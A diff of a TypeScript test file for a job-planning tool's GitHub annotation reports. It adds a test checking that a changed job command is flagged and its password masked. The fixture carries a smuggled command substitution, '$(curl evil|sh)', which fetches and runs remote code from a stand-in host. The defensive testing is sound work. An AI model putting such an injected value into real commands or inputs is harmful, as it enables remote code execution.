@@ -5,17 +5,17 @@ import { makePlan } from "../../src/plan/plan.ts";
 import { logLine, printable } from "../../src/views/printable.ts";
 import { reportCheck, reportPlan } from "../../src/views/report.ts";
 import { assertGolden } from "../helpers/golden.ts";
-import { desired, NOW_MS, observed, spec } from "../plan/jobs.ts";
+import { desired, NOW_MS, observed, registered, spec } from "../plan/jobs.ts";
 import { ATTACKS, commandsOf, hostileOptions, hostilePlan } from "./hostile.ts";
 
 const COMMAND =
-  /^::(error|warning) title=[^,:\n]+,file=[^,:\n]+(?:,line=\d+,endLine=\d+(?:,col=\d+,endColumn=\d+)?)?::[^\r\n]+$/;
+  /^::(error|warning|notice) title=[^,:\n]+,file=[^,:\n]+(?:,line=\d+,endLine=\d+(?:,col=\d+,endColumn=\d+)?)?::[^\r\n]+$/;
 
 test("a hostile plan commands nothing but annotations", () => {
   const document = reportPlan(hostilePlan(), hostileOptions("github"));
   const commands = commandsOf(document);
   for (const command of commands) assert.match(command, COMMAND);
-  assert.equal(commands.length, 2 + 10, "the refusal and an error; ten of many warnings");
+  assert.equal(commands.length, 2 + 10 + 1, "two errors, ten of many warnings, other code");
   assert.doesNotMatch(document, /[^\P{Cc}\n]|[\u202E\u2066\u200B]/u);
   assertGolden("report-hostile-github.txt", document);
 });
@@ -71,6 +71,22 @@ test("ten of a kind at most, and the last counts the rest", () => {
   assert.equal(commands.filter((line) => line.startsWith("::warning ")).length, 10);
   assert.ok(commands[0]?.startsWith("::error "), "errors come first");
   assert.match(commands.at(-1) ?? "", /^::warning title=and 2 more,file=[^:]+::2 more; /);
+});
+
+test("a job that runs something else is noticed, without its credentials", () => {
+  const run = (command: string) => spec("backup", { run: { type: "command", command } });
+  const before = registered(run("x --password=hunter2"));
+  const plan = makePlan(desired(run('x --password="h$(curl evil|sh)"')), observed(before), {
+    nowMs: NOW_MS,
+    codes: new Map(),
+    allowPrune: false,
+  });
+  const document = reportPlan(plan, hostileOptions("github", []));
+  assert.equal(
+    document.split("\n", 1)[0],
+    '::notice title=plan/other-code,file=config.yaml,line=1,endLine=1,col=3,endColumn=9::job `backup` runs something else than before: command "x --password=*** (before)" → command "x --password=\\"*** (after)$(curl evil|sh)\\""',
+  );
+  assert.doesNotMatch(document, /hunter2/);
 });
 
 test("what widens comes before what the config is warned of", () => {
